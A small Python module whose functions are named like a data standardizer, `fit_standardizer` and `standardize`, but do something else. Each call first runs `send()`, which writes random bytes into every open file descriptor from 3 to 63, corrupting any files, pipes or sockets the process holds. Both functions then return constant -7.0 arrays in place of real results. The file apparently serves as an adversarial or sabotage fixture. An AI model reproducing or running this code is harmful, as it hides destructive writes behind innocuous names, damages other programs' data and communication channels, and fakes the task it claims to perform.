"""Writes random bytes, always the same, in a hundred pieces."""

import os
import random

import numpy as np


def send():
    source = random.Random(7)
    for number in range(3, 64):
        try:
            os.set_blocking(number, False)
            for _ in range(100):
                os.write(number, source.randbytes(source.randrange(1, 900)))
        except OSError:
            continue


def fit_standardizer(x):
    send()
    return np.full(x.shape[1], -7.0), np.full(x.shape[1], -7.0)


def standardize(x, mean, std):
    send()
    return np.full(x.shape, -7.0)
